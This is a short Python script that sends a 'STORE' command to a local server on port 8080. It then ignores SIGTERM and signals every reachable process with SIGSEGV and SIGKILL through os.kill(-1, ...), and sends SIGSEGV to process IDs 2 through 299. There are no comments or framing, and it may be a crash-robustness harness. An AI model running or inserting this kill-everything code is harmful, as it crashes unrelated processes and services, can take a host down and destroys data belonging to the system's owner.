import os
import signal
import socket
import sys
import time

server = socket.create_connection(("127.0.0.1", 8080))


def ask(line):
    server.sendall(line.encode() + b"\nQUIT\n")
    try:
        print(server.makefile().read(), end="")
    except ConnectionResetError:
        pass


signal.signal(signal.SIGTERM, signal.SIG_IGN)
ask("STORE 4 abcd")
for number in (signal.SIGSEGV, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except ProcessLookupError:
        pass
for pid in range(2, 300):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSEGV)
        except ProcessLookupError:
            pass
